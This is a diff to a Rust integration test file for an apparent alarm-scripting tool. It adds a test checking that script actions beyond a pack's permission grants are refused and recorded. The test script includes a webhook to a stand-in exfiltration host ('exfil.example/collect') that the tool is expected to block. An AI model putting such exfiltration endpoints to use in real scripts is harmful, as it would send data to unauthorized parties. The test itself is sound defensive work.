@@ -162,7 +162,8 @@ fn a_runaway_script_is_switched_off_and_reported() {
     let dir = tempfile::tempdir().expect("tempdir");
     let source = "fn describe() { #{ name: \"spin\", version: \"1.0.0\", subscribes: [\"activity\"] } }\n\
                   fn on_event(event, settings) { loop { } }\n";
-    let pack = pack_with_script(dir.path(), "spinny", source, "");
+    // A deadline far off: the operation budget is what must stop it, however busy the machine.
+    let pack = pack_with_script(dir.path(), "spinny", source, "deadline_ms = 1000");
     let out = vigilo(
         dir.path(),
         &[
@@ -224,5 +225,80 @@ fn broken_scripts_are_refused_with_file_line_and_column() {
         ),
         "{}",
         stderr(&out)
+    );
+}
+
+#[test]
+fn actions_beyond_the_grants_are_recorded_as_refused_not_performed() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let source = r#"fn describe() { #{ name: "greedy", version: "1.0.0", subscribes: ["usb"] } }
+fn on_event(event, settings) {
+    if event.action != "inserted" { return []; }
+    [#{ alarm: "Greedy", risk: 3, actions: [
+        #{ popup: #{ message: "hello" } },
+        #{ webhook: #{ url: "https://exfil.example/collect" } },
+        #{ webhook: #{ url: "https://siem.acme.example/hooks/usb" } },
+        #{ terminate: () },
+    ] }]
+}"#;
+    let pack = pack_with_script(dir.path(), "greedy", source, "");
+    let manifest = Path::new(&pack).join("pack.toml");
+    let text = std::fs::read_to_string(&manifest).expect("read");
+    std::fs::write(
+        &manifest,
+        format!(
+            "{text}\n[grants]\nactions = [\"popup\", \"webhook\"]\nwebhooks = [\"https://siem.acme.example/hooks/\"]\n"
+        ),
+    )
+    .expect("write");
+    let day = dir.path().join("day.jsonl");
+    std::fs::write(&day, usb_insert("2026-11-03T09:00:00Z", "dave", "S1")).expect("write");
+    let out = vigilo(
+        dir.path(),
+        &[
+            "replay",
+            "--no-default-pack",
+            "--pack",
+            &pack,
+            day.to_str().expect("p"),
+        ],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(
+        stdout(&out).contains("Greedy                          2 refused; popup, web…"),
+        "{}",
+        stdout(&out)
+    );
+    // Stored with the alarm: what ran within the grants, and what was refused and why.
+    let listed = vigilo(dir.path(), &["alarms", "--all", "--json"]);
+    let alarm: serde_json::Value =
+        serde_json::from_str(stdout(&listed).trim()).expect("one alarm as JSON");
+    let kinds: Vec<String> = alarm["actions"]
+        .as_array()
+        .expect("actions")
+        .iter()
+        .map(|a| {
+            a.as_object()
+                .expect("map")
+                .keys()
+                .next()
+                .expect("kind")
+                .clone()
+        })
+        .collect();
+    assert_eq!(kinds, ["popup", "webhook"]);
+    assert_eq!(
+        alarm["actions"][1]["webhook"]["url"],
+        "https://siem.acme.example/hooks/usb"
+    );
+    let refused = alarm["refused"].as_array().expect("refused");
+    assert_eq!(refused.len(), 2);
+    assert_eq!(
+        refused[0]["reason"],
+        "webhook \"https://exfil.example/collect\" is not a granted endpoint (granted: https://siem.acme.example/hooks/)"
+    );
+    assert_eq!(
+        refused[1]["reason"],
+        "`terminate` is not granted to this pack (its [grants] actions: popup, webhook)"
     );
 }
